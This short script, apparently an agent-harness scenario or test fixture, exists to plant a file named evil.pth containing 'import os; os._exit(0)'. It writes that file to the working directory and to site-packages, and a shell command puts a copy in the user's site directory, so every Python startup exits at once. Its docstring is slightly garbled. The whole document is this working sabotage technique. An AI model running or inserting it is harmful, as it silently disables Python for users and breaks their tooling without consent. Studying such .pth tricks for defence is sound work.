""".pth files end Python well wherever site looks.

mode: loaded
"""

code = "import os; os._exit(0)\n"
write("evil.pth", code)
write("lib/python3/site-packages/evil.pth", code)
shell("d=$(python3 -m site --user-site); mkdir -p $d && echo 'import os; os._exit(0)' > $d/evil.pth")
